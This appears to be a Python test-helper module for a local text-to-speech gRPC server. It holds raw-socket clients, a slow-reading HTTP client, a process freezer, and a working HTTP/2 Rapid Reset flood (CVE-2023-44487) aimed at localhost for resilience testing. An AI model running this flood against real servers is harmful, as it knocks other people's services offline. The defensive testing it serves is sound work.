"""Clients that speak to a port without any library, and processes that stand still for a while."""

from __future__ import annotations

import asyncio
import json
import os
import random
import signal
import socket
import struct
from collections.abc import AsyncIterator, Mapping, Sequence
from contextlib import asynccontextmanager, suppress
from types import TracebackType
from typing import Any
from urllib.parse import urlsplit

HOST = "127.0.0.1"


@asynccontextmanager
async def connected(port: int, receive_bytes: int | None = None) -> AsyncIterator[socket.socket]:
    """Connect without any library; the connection is reset in the end."""
    connection = socket.socket()
    if receive_bytes is not None:
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_bytes)
    connection.setblocking(False)
    try:
        await asyncio.get_running_loop().sock_connect(connection, (HOST, port))
        yield connection
    finally:
        with suppress(OSError):
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        connection.close()


async def send(connection: socket.socket, data: bytes) -> None:
    with suppress(OSError):
        await asyncio.get_running_loop().sock_sendall(connection, data)


async def receive(connection: socket.socket, count: int, seconds: float) -> bytes:
    with suppress(OSError, asyncio.TimeoutError):
        return await asyncio.wait_for(asyncio.get_running_loop().sock_recv(connection, count), seconds)
    return b""


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SETTINGS, _HEADERS, _RST_STREAM = 4, 1, 3
_END_HEADERS = 4
_PATH = b"/tts_api.tts.v1.TextToSpeechService/Synthesize"


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def literal(name: bytes, value: bytes) -> bytes:
    """Write a header of HPACK, neither indexed nor compressed (RFC 7541, 6.2.2); both are shorter than 127 bytes."""
    return b"\x00" + bytes((len(name),)) + name + bytes((len(value),)) + value


async def reset_rapidly(port: int, rng: random.Random) -> None:
    """Open HTTP/2 streams and reset each at once, some thousand times (CVE-2023-44487)."""
    fields = ((b":method", b"POST"), (b":scheme", b"http"), (b":path", _PATH), (b":authority", b"localhost"))
    block = b"".join(literal(*pair) for pair in (*fields, (b"content-type", b"application/grpc"), (b"te", b"trailers")))
    async with connected(port) as connection:
        await send(connection, PREFACE + frame(SETTINGS, 0, 0))
        for first in range(1, 2 * rng.randrange(1000, 3000), 200):
            numbers = range(first, first + 200, 2)
            cancel = struct.pack(">I", 8)
            frames = [frame(_HEADERS, _END_HEADERS, n, block) + frame(_RST_STREAM, 0, n, cancel) for n in numbers]
            await send(connection, b"".join(frames))
            await receive(connection, 65536, 0.005)


async def stop_and_continue(pids: Sequence[int], seconds: float) -> None:
    """Stop processes for a while."""
    for number in (signal.SIGSTOP, signal.SIGCONT):
        for pid in pids:
            with suppress(ProcessLookupError):
                os.kill(pid, number)
        if number is signal.SIGSTOP:
            await asyncio.sleep(seconds)


_RECEIVE_BYTES = 4096
_END_OF_CHUNKS = b"\r\n0\r\n\r\n"


class StalledReader:
    """One connection; what the server sent is read when the test says so. A context manager that hangs up."""

    def __init__(self, url: str) -> None:
        """Connect with room for little."""
        split = urlsplit(url)
        self._host = f"{split.hostname}:{split.port}"
        self._socket = socket.socket()
        self._socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, _RECEIVE_BYTES)
        self._socket.connect((split.hostname, split.port))
        self._socket.setblocking(False)

    async def ask(self, path: str, body: Mapping[str, Any]) -> None:
        """Send a request."""
        content = json.dumps(body)
        head = f"POST {path} HTTP/1.1\r\nHost: {self._host}\r\nContent-Length: {len(content)}\r\n\r\n"
        await asyncio.get_running_loop().sock_sendall(self._socket, (head + content).encode())

    async def is_answer_whole(self) -> bool:
        """Read what there is until the connection ends, or the answer does."""
        received = b""
        with suppress(ConnectionError):
            while piece := await asyncio.get_running_loop().sock_recv(self._socket, 1 << 20):
                received = received[-len(_END_OF_CHUNKS) :] + piece
                if received.endswith(_END_OF_CHUNKS):
                    return True
        return False

    def __enter__(self) -> StalledReader:
        return self

    def __exit__(self, kind: type[BaseException] | None, error: BaseException | None, tb: TracebackType | None) -> None:
        self._socket.close()
